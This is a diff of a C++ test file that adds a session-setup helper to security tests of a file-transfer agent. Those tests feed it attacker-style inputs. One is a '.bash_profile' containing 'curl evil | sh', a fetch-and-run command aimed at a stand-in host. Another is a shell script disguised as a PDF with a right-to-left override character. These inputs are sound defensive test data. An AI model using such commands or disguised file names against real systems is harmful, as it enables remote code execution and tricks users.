@@ -48,6 +48,12 @@ struct RunningAgent {
         control = static_cast<uint16_t>(std::stoi(m[1]));
         input = static_cast<uint16_t>(std::stoi(m[2]));
     }
+    // Started, and `paired` in a session with it.
+    void startInSession(TestController& paired, std::map<std::string, std::string> env = {}) {
+        ASSERT_NO_FATAL_FAILURE(start(paired, std::move(env)));
+        ASSERT_TRUE(paired.connect(control, input));
+        ASSERT_TRUE(paired.authenticateWithKey());
+    }
 };
 
 bool waitFor(const std::function<bool()>& done, std::chrono::milliseconds timeout = 10000ms) {
@@ -181,9 +187,7 @@ TEST(AgentUnderAttack, FilesNeverLandInTheHomeFolderNorHiddenAndRefusalsAreSaid)
     RunningAgent agent;
     // The user-dirs way of saying there is no download folder.
     writeFile(agent.home.file(".config/user-dirs.dirs"), "XDG_DOWNLOAD_DIR=\"$HOME/\"\n");
-    ASSERT_NO_FATAL_FAILURE(agent.start(paired));
-    ASSERT_TRUE(paired.connect(agent.control, agent.input));
-    ASSERT_TRUE(paired.authenticateWithKey());
+    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired));
 
     sendFile(paired, 1, ".bash_profile", "curl evil | sh\n");
     sendFile(paired, 2, "invoice\u202Efdp.sh", "#!/bin/sh\n"); // refused, as request 1
@@ -214,11 +218,9 @@ TEST(AgentUnderAttack, AStopMidTransferLeavesNoPartialFileAndLeftoversGoAtStart)
     const std::string downloads = agent.home.file("Downloads");
     writeFile(downloads + "/old.pdf.dovrel-part", "half of an earlier file");
     writeFile(downloads + "/browser.part", "not ours");
-    ASSERT_NO_FATAL_FAILURE(agent.start(paired));
+    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired));
+    // What an earlier run left half-received goes; what is not the agent's stays.
     ASSERT_TRUE(waitFor([&] { return !fs::exists(downloads + "/old.pdf.dovrel-part"); }));
-
-    ASSERT_TRUE(paired.connect(agent.control, agent.input));
-    ASSERT_TRUE(paired.authenticateWithKey());
     ASSERT_TRUE(paired.sendSealed(wex::ControlType::fileOffer, wex::FileOffer{1, 9, 1 << 20, "report.pdf"}.encode()));
     ASSERT_TRUE(
         paired.sendSealed(wex::ControlType::fileChunk, wex::FileChunk{1, 9, 0, wex::Bytes(1 << 15, 'r')}.encode()));
@@ -240,10 +242,8 @@ TEST(AgentUnderAttack, AStormOfLauncherRequestsStartsOneLauncher) {
     writeFile(bin + "/xdg-open", "#!/bin/sh\necho started >> \"$HOME/launches\"\nsleep 5\n");
     fs::permissions(bin + "/xdg-open", fs::perms::owner_all);
     const char* path = std::getenv("PATH");
-    ASSERT_NO_FATAL_FAILURE(agent.start(paired, {{"PATH", bin + ":" + (path ? path : "/usr/bin:/bin")},
-                                                 {"DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus"}}));
-    ASSERT_TRUE(paired.connect(agent.control, agent.input));
-    ASSERT_TRUE(paired.authenticateWithKey());
+    ASSERT_NO_FATAL_FAILURE(agent.startInSession(paired, {{"PATH", bin + ":" + (path ? path : "/usr/bin:/bin")},
+                                                          {"DBUS_SESSION_BUS_ADDRESS", "unix:path=/nonexistent/bus"}}));
 
     const wex::Bytes launch = wex::SessionCommand(1, wex::SessionCmd::showLaunchpad, 0).encode();
     for (int i = 0; i < 50; ++i)
